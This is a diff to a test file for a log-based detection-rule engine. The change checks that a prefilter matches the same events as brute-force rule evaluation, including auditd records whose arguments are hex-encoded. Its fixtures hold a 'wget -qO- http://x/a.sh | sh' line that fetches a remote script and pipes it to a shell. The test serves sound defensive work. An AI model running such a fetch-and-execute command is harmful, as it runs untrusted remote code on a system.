@@ -345,12 +345,16 @@ def test_the_prefilter_never_hides_a_match(tmp_path: Path) -> None:
              '"comm":"wget","exe":"/usr/bin/wget"},"EXECVE":{"argc":3,'
              '"ARGV":["wget","-qO-","http://x/a.sh | sh"]}}',
              "Jan  1 10:00:00 web1 kernel: nothing"]
-    for line in lines:
-        event = PARSER.parse(line, 0.0)
+    events = [PARSER.parse(line, 0.0) for line in lines]
+    # A decoded record's fields need not be in its raw text (auditd hex-encodes arguments).
+    events.append(_event("type=EXECVE msg=audit(1.0:2): argc=2 a0=77676574 a1=7C207368",
+                         "process_started", process__executable="/usr/bin/wget",
+                         process__command_line="wget | sh"))
+    for event in events:
         brute = [i for i, spec in enumerate(loaded.rules)
                  if (spec.logsource is None or spec.logsource(event)) and spec.predicate(event)]
         assert rules.matches(event) == brute
-    assert sum(bool(rules.matches(PARSER.parse(line, 0.0))) for line in lines) == 3
+    assert sum(bool(rules.matches(event)) for event in events) == 4
 
 
 # -- alerts and the detector ----------------------------------------------------------------
